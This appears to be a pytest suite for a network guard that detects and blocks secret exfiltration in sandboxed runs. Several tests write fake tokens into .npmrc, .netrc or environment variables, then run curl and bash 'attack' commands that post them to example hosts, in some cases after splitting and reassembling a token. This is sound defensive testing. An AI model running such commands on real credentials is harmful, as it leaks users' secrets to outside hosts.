"""Secrets that nobody named, in a sealed run: in the home directory's files, in environments that come later, in responses."""

from __future__ import annotations

import base64
import json
import os
import secrets
import shlex
import subprocess
from pathlib import Path

import pytest

from tests.world import World
from tests.world.guard import ORDINARY
from tests.world.internet import API, MIRROR
from tests.world.watch import gate_of

ALLOWED = ["--allow", "api.example.com", "--allow", "mirror.example.com"]
APIS = (API, "2001:db8::10", MIRROR)


def leaks(outcome) -> dict[str, str]:
    return {one["secret"]: one["place"] for one in outcome.incidents if one["kind"] == "exfiltration"}


def halves(value: str) -> dict[str, str]:
    """Variables from which a program can put the value together, and whose names say nothing."""
    return {"FIRST_HALF": value[:18], "SECOND_HALF": value[18:]}


@pytest.fixture
def home(world: World):
    directory = world.directory / "home"
    made = []

    def write(name: str, text: str) -> None:
        path = directory / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        made.append(path)

    world.guard.environment()  # makes the directory
    yield write
    for path in made:
        path.unlink()


@pytest.mark.parametrize("encode", [str, lambda value: base64.b64encode(f"x{value}".encode()).decode()])
def test_a_token_from_the_home_directory_is_cut(world: World, secret: str, user: int | None, home, encode) -> None:
    home(".npmrc", f"//registry.npmjs.org/:_authToken={secret}\n")
    sent = encode(secret)
    command = ["curl", "-s", "-d", sent, "https://api.example.com/collect"]
    world.guard.bare(command)
    assert sent.encode() in world.received(*APIS)
    world.forget()
    outcome = world.guard.run(ALLOWED, command, user=user)
    assert outcome.code == 91, outcome.stderr
    assert leaks(outcome) == {"npmrc (_authToken)": "body"}
    assert sent.encode() not in world.received(*APIS)
    assert secret.encode() not in outcome.everything_written()


def test_a_token_from_the_home_directory_goes_home(world: World, secret: str, home) -> None:
    """To the host that its file names, in the header, and nowhere else there."""
    home(".netrc", f"machine api.example.com login bob password {secret}\n")
    went = world.guard.run(ALLOWED, ["curl", "-sS", "--netrc", "https://api.example.com/a"])
    assert (went.code, "got GET /a" in went.stdout) == (0, True), went.stderr
    for command in (
        ["curl", "-s", "-H", f"Authorization: Bearer {secret}", "https://mirror.example.com/a"],
        ["curl", "-s", "-d", secret, "https://api.example.com/a"],
        ["curl", "-s", f"https://api.example.com/{secret}"],
    ):
        world.forget()
        assert world.guard.run(ALLOWED, command).code == 91
        assert secret.encode() not in world.received(*APIS)


def test_a_variable_that_is_in_a_file_too_goes_where_the_file_says(world: World, secret: str, home) -> None:
    home(".netrc", f"machine api.example.com login bob password {secret}\n")
    env = {"REGISTRY_PASSWORD": secret}
    assert world.guard.run(ALLOWED, ["curl", "-sS", "--netrc", "https://api.example.com/a"], env=env).code == 0
    outcome = world.guard.run(ALLOWED, ["curl", "-s", "-u", f"bob:{secret}", "https://mirror.example.com/a"], env=env)
    assert leaks(outcome) == {"REGISTRY_PASSWORD": "header:authorization"}


def test_a_value_with_two_names_goes_where_either_may(world: World, secret: str, tmp_path) -> None:
    policy = tmp_path / "policy.yml"
    policy.write_text("version: 1\nallow: [api.example.com]\nsecrets: {SECOND_TOKEN: {to: [api.example.com]}}\n")
    tmp_path.chmod(0o755)
    command = ["curl", "-sS", "-H", f"Authorization: Bearer {secret}", "https://api.example.com/"]
    env = {"FIRST_TOKEN": secret, "SECOND_TOKEN": secret}
    assert world.guard.run(["--policy", str(policy)], command, env=env).code == 0
    assert world.guard.run(["--policy", str(policy)], [*command[:-1], "-d", secret, command[-1]], env=env).code == 91


def test_a_document_and_what_is_inside_are_one_finding(world: World, secret: str) -> None:
    document = json.dumps({"user": "bob", "password": secret})
    outcome = world.guard.run(ALLOWED, ["curl", "-s", "-d", document, "https://api.example.com/"], env={"A_CREDENTIAL": document})
    assert leaks(outcome) == {"A_CREDENTIAL": "body"}
    outcome = world.guard.run(ALLOWED, ["curl", "-s", "-d", secret, "https://api.example.com/"], env={"A_CREDENTIAL": document})
    assert leaks(outcome) == {"A_CREDENTIAL (password)": "body"}


def test_a_hostile_home_directory_does_not_hinder(world: World, home) -> None:
    home(".npmrc", "\x00" * 100 + "[" * 100_000)
    home(".docker/config.json", '{"auths": ' * 20_000)
    home(".aws/credentials", secrets.token_hex(1 << 18))
    outcome = world.guard.run(ALLOWED, ["curl", "-sS", "https://api.example.com/fine"])
    assert outcome.code == 0, outcome.stderr


def test_a_secret_that_a_script_put_into_its_environment(world: World, secret: str, user: int | None) -> None:
    """It is known before the first byte of the process' connection is read."""
    attack = 'export LATE_TOKEN="$FIRST_HALF$SECOND_HALF"; curl -s -d "x=$LATE_TOKEN" https://api.example.com/collect'
    world.guard.bare(["bash", "-c", attack], env=halves(secret))
    assert secret.encode() in world.received(*APIS)
    world.forget()
    outcome = world.guard.run(ALLOWED, ["bash", "-c", attack], env=halves(secret), user=user)
    assert outcome.code == 91, outcome.stderr
    assert leaks(outcome) == {"LATE_TOKEN": "body"}
    assert secret.encode() not in world.received(*APIS)
    assert secret.encode() not in outcome.everything_written()


def test_a_secret_in_an_ancestors_environment(world: World, secret: str) -> None:
    inner = 'env -u LATE_TOKEN curl -s -d "x=$FIRST_HALF$SECOND_HALF" https://api.example.com/collect'
    attack = f'export LATE_TOKEN="$FIRST_HALF$SECOND_HALF"; bash -c {shlex.quote(inner + "; true")}; true'
    outcome = world.guard.run(ALLOWED, ["bash", "-c", attack], env=halves(secret))
    assert leaks(outcome) == {"LATE_TOKEN": "body"}
    assert secret.encode() not in world.received(*APIS)


def test_a_password_of_no_known_home_belongs_where_it_is_used_first(world: World, secret: str) -> None:
    use = 'export LATE_PASSWORD="$FIRST_HALF$SECOND_HALF"; for host in {hosts}; do curl -s -o /dev/null -w "%{{http_code}} " -u "bob:$LATE_PASSWORD" https://$host.example.com/; done'  # fmt: skip
    options = [*ALLOWED, "--on-exfiltration", "fail"]
    again = world.guard.run(options, ["bash", "-c", use.format(hosts="api api")], env=halves(secret))
    assert (again.code, again.stdout) == (0, "200 200 "), again.stderr
    elsewhere = world.guard.run(options, ["bash", "-c", use.format(hosts="api mirror")], env=halves(secret))
    assert (elsewhere.code, elsewhere.stdout.split()[0]) == (91, "200"), elsewhere.stderr
    denied_first = world.guard.run(options, ["bash", "-c", use.format(hosts="attacker api")], env=halves(secret))
    assert denied_first.code == 91
    assert denied_first.stdout.split()[1] == "200"


def test_what_the_job_says_of_itself_is_no_secret(world: World) -> None:
    commit = secrets.token_hex(20)
    command = ["bash", "-c", 'CACHE_TOKEN="$GITHUB_SHA" INPUT_KEY="$FIRST_HALF" curl -sS -d "$GITHUB_SHA $FIRST_HALF" https://api.example.com/']  # fmt: skip
    outcome = world.guard.run(ALLOWED, command, env={"GITHUB_SHA": commit, "FIRST_HALF": "linux-node-" + secrets.token_hex(16)})
    assert outcome.code == 0, outcome.stderr


def test_an_environment_that_is_huge(world: World, secret: str) -> None:
    """Whoever floods the environment of a process leaves those of its ancestors as they were."""
    many = "; ".join(f"export V{number}_TOKEN={secrets.token_hex(12)}" for number in range(600))
    inner = f'{many}; for n in 1 2 3; do curl -s -d "$A_TOKEN" https://api.example.com/; done; true'
    command = ["bash", "-c", f'export A_TOKEN="$FIRST_HALF$SECOND_HALF"; bash -c {shlex.quote(inner)}; true']
    outcome = world.guard.run(ALLOWED, command, env=halves(secret))
    assert leaks(outcome) == {"A_TOKEN": "body"}, outcome.stderr


def test_no_part_of_a_run_leaves_its_memory_to_others(world: World) -> None:
    """Run as an ordinary user: no core dumps, and /proc/PID/mem is root's. The command keeps its own limits."""
    limit = world.guard.bare(["sh", "-c", "ulimit -c"]).stdout
    line = world.guard.command_line(["--quiet"], ["sh", "-c", "ulimit -c; exec sleep 30"])
    run = subprocess.Popen(
        world.guard.entering(line, user=ORDINARY), env=world.guard.environment(), cwd="/tmp", stdout=subprocess.PIPE
    )
    try:
        assert run.stdout.readline().decode() == limit  # so it is armed
        gate = gate_of(run)
        warden = int(Path(f"/proc/{gate}/stat").read_text().rpartition(")")[2].split()[1])
        for pid in (gate, warden):
            assert os.stat(f"/proc/{pid}/mem").st_uid == 0
            core = next(
                one for one in Path(f"/proc/{pid}/limits").read_text().splitlines() if one.startswith("Max core file size")
            )
            assert core.split()[4:6] == ["0", "0"]
    finally:
        run.kill()
        run.wait()
